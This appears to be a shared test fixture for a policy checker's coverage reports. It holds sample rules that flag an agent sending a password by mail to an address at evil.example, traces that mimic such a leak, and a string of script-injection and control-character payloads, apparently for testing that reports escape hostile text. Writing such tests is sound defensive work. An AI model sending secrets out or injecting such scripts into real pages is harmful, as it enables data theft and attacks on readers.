"""Policies and traces that the tests of all reports share."""

from __future__ import annotations

from typing import TYPE_CHECKING

from tests.runtime.testing.coverage.seeing import coverage, recorder
from tests.traces import calls, user

from policyc.runtime.testing.coverage.coverage import Coverage
from policyc.runtime.testing.coverage.recorder import Recorder

if TYPE_CHECKING:
    from tests.traces import Event

MAIL = """\
from invariant import count

OUTSIDE := tool:send({to: ".*@evil\\.example", cc: *})  # who is not a colleague

is_short(m: Message) :=
    len(m.content) < 9

raise "a password leaves the company [risk=high]" if:
    (m: Message) -> (c: ToolCall)
    "password" in m.content or is_short(m)
    c is OUTSIDE

raise Violation(
    "many mails",
    first=c,
) if:
    (c: ToolCall)
    1 < len(c.function.name) < 20
    c is tool:send({subject: "hello", list: ["a", *]})
    count(min=2, max=4):
        (d: ToolCall)
        d is tool:send
        json_loads(d.function.arguments.body).n > 2
"""

QUIET = 'raise "a word" if:\n    (m: Message)\n    m.content == "word"\n'

TRACES: list[list[Event]] = [
    [user("the password"), calls("send", to="eve@evil.example", body="x")],
    [calls("send", subject="hello", body="none"), user("hi"), calls("read")],
]

HOSTILE = (
    '# \x1b[31m</code><script>alert("1")</script> \u202e &amp; \'"\n'
    'raise "<b>&\x1b</b>\u202e" if:\n    (m: Message)\n'
    "    m.content == '</span><script>alert(1)</script>&amp;\u202e\"'\n"
    '\tor m.role == "user"\n'
)


def example() -> Coverage:
    """The coverage of several files: one with gaps of each kind, one that was seen in full, one
    that was not run, and one that was not counted to the end."""
    cut = recorder(QUIET.replace("word", "longer"), "policies/cut.inv")
    short = Recorder(cut.engine, work=3)
    return Coverage.total(
        [
            coverage(MAIL, *TRACES, path="policies/mail.inv"),
            coverage(QUIET, [user("word"), user("none")], path="policies/full.inv"),
            coverage(QUIET, path="unrun.inv"),
            short.coverage(short.run([user()] * 5, {})),
        ]
    )
